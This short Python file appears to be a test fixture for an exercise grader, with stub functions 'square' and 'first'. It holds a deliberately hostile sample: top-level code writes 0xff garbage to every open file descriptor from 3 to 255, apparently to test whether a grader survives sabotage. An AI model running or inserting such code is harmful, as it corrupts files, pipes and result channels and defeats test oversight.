# Writes garbage to every open file descriptor.
# At most: 0
# %% square
import os

for number in range(3, 256):
    try:
        os.write(number, b"\xff" * 64)
    except OSError:
        pass


def square(x):
    raise NotImplementedError


# %% first
def first(values):
    raise NotImplementedError
